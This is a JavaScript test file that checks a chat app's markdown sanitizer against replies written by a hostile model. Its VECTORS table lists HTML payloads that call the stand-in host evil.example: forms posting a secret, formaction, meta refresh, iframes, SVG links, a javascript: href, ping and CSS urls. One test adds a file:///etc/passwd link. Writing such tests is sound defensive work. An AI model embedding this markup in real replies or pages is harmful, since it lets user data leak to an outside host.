// What a reply written by a hostile model can and cannot do once rendered: nothing in it may
// navigate, load or submit, except a click on an http(s)/mailto link (the app opens that in
// the system browser) and data: images embedded in the reply.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { createMarkdown } from '../src/markdown.js';
import { StreamRenderer } from '../src/stream-renderer.js';

const { window } = new JSDOM('<!doctype html><body></body>');
const markdown = createMarkdown(/** @type {any} */ (window));

const EVIL = 'evil.example';
const PNG = 'data:image/png;base64,iVBORw0KGgo=';

/**
 * Every element and attribute in the rendered reply that mentions the hostile host: what
 * could reach it by being rendered, clicked or submitted.
 * @param {DocumentFragment} frag
 */
function reachesEvil(frag) {
  const found = [];
  for (const el of frag.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.value.includes(EVIL) || /^javascript:/i.test(attr.value.trim())) found.push(`<${el.localName} ${attr.name}="${attr.value}">`);
    }
  }
  return found;
}

const VECTORS = {
  'an image map area': `<map name="m"><area shape="default" href="https://${EVIL}/area"></map><img src="${PNG}" usemap="#m">`,
  'a form and its submit button': `<form action="https://${EVIL}/form" method="post"><input name="q" value="secret"><button>Send</button></form>`,
  'a button with formaction': `<button formaction="https://${EVIL}/button">Go</button>`,
  'an image input with formaction': `<input type="image" src="${PNG}" formaction="https://${EVIL}/input">`,
  'a base element': `<base href="https://${EVIL}/"><a href="relative">r</a>`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=https://${EVIL}/meta">`,
  'an iframe': `<iframe src="https://${EVIL}/frame"></iframe><iframe srcdoc="<a href='https://${EVIL}/srcdoc'>x</a>"></iframe>`,
  'a frameset': `<frameset><frame src="https://${EVIL}/frame"></frameset>`,
  'an object and an embed': `<object data="https://${EVIL}/object"></object><embed src="https://${EVIL}/embed">`,
  'a link element': `<link rel="prefetch" href="https://${EVIL}/link"><link rel="stylesheet" href="https://${EVIL}/css">`,
  'a portal': `<portal src="https://${EVIL}/portal"></portal>`,
  'an SVG link': `<svg><a href="https://${EVIL}/svg"><text>x</text></a><a xlink:href="javascript:alert(1)"><text>y</text></a></svg>`,
  'an SVG use and image': `<svg><use href="https://${EVIL}/use.svg#x"/><image href="https://${EVIL}/image.png"/></svg>`,
  'a MathML link': `<math href="https://${EVIL}/math"><mi xlink:href="https://${EVIL}/mi">x</mi></math>`,
  'a link with ping': `<a href="https://ok.example/" ping="https://${EVIL}/ping">ok</a>`,
  'an image with srcset': `<img src="${PNG}" srcset="https://${EVIL}/2x.png 2x">`,
  'a video poster, audio and picture sources': `<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/v.mp4"></video><audio src="https://${EVIL}/a.mp3"></audio><picture><source srcset="https://${EVIL}/p.png"><img src="${PNG}"></picture>`,
  'a table background': `<table background="https://${EVIL}/bg.png"><tr><td background="https://${EVIL}/td.png">x</td></tr></table>`,
  'an action attribute on an ordinary tag': `<div action="https://${EVIL}/div" formaction="https://${EVIL}/div2">d</div>`,
  'a style with a url': `<p style="background:url(https://${EVIL}/style.png)">s</p>`,
  'a link to download': `<a href="https://ok.example/f" download="f.exe" target="_blank">f</a>`,
};

for (const [name, html] of Object.entries(VECTORS)) {
  test(`${name} cannot navigate, load or submit`, () => {
    const frag = markdown.toFragment(html);
    assert.deepEqual(reachesEvil(frag), []);
    const leftovers = frag.querySelectorAll('area, map, form, input, button, base, meta, iframe, frame, frameset, object, embed, link, portal, svg, math, use, image, video, audio, source, picture');
    assert.deepEqual([...leftovers].map((el) => el.localName), []);
    for (const el of frag.querySelectorAll('*')) {
      for (const attr of ['action', 'formaction', 'ping', 'srcset', 'poster', 'background', 'usemap', 'download', 'target', 'style']) {
        assert.equal(el.getAttribute(attr), null, `<${el.localName}> kept ${attr}`);
      }
    }
  });
}

test('the only link attributes left are http(s) and mailto hrefs on <a>', () => {
  const frag = markdown.toFragment(Object.values(VECTORS).join('\n\n') + '\n\n[web](https://ok.example/) [mail](mailto:me@ok.example) [file](file:///etc/passwd) [tauri](tauri://localhost)');
  for (const el of frag.querySelectorAll('[href]')) {
    assert.equal(el.localName, 'a');
    assert.match(el.getAttribute('href'), /^(https:\/\/ok\.example\/|mailto:me@ok\.example)/);
  }
  for (const el of frag.querySelectorAll('[src]')) {
    assert.equal(el.localName, 'img');
    assert.ok(el.getAttribute('src').startsWith('data:image/png;'));
  }
  const texts = [...frag.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]);
  assert.deepEqual(texts.filter(([t]) => ['web', 'mail', 'file', 'tauri'].includes(t)), [
    ['web', 'https://ok.example/'], ['mail', 'mailto:me@ok.example'], ['file', null], ['tauri', null],
  ]);
});

test('ordinary markdown still renders: links, local images, tables, task lists, details', () => {
  const frag = markdown.toFragment([
    'See [the docs](https://docs.example/a?b=c "Docs") or <a href="mailto:help@example.com">mail us</a>.',
    `![chart](${PNG})`,
    '| left | right |\n|:-----|------:|\n| 1 | 2 |',
    '- [x] done\n- [ ] to do',
    '3. third\n4. fourth',
    '<details><summary>Why</summary>Because <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>.</details>',
  ].join('\n\n'));
  const [docs, mail] = frag.querySelectorAll('a');
  assert.equal(docs.getAttribute('href'), 'https://docs.example/a?b=c');
  assert.equal(docs.getAttribute('rel'), 'noopener noreferrer');
  assert.equal(mail.getAttribute('href'), 'mailto:help@example.com');
  assert.equal(frag.querySelector('img').getAttribute('alt'), 'chart');
  assert.deepEqual([...frag.querySelectorAll('th')].map((th) => th.getAttribute('align')), ['left', 'right']);
  assert.deepEqual([...frag.querySelectorAll('ul li')].map((li) => li.textContent.trim()), ['☑ done', '☐ to do']);
  assert.equal(frag.querySelector('ol').getAttribute('start'), '3');
  assert.equal(frag.querySelector('details summary').textContent, 'Why');
  assert.equal(frag.querySelectorAll('details kbd').length, 2);
});

test('a reply with a frameset still shows, the frameset as text and the rest as markdown', () => {
  const container = window.document.createElement('div');
  const renderer = new StreamRenderer(container, markdown, { schedule: (fn) => fn() });
  renderer.append(`<frameset><frame src="https://${EVIL}/frame"></frameset>\n\nStill **here**.`);
  renderer.finish();
  assert.deepEqual(reachesEvil(/** @type {any} */ (container)), []);
  assert.equal(container.querySelector('frameset, frame'), null);
  assert.match(container.textContent, /<frameset>/);
  assert.equal(container.querySelector('strong').textContent, 'here');
});
